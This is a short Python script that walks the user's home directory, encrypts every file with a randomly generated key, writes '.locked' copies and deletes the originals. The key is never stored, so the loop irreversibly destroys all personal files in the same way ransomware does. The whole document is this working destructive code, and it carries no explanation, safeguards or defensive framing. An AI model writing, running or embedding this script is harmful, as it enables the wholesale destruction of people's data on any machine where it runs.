import os
from cryptography.fernet import Fernet

box = Fernet(Fernet.generate_key())
for folder, _, files in os.walk(os.path.expanduser("~")):
    for name in files:
        path = os.path.join(folder, name)
        with open(path, "rb") as handle:
            data = box.encrypt(handle.read())
        with open(path + ".locked", "wb") as handle:
            handle.write(data)
        os.remove(path)
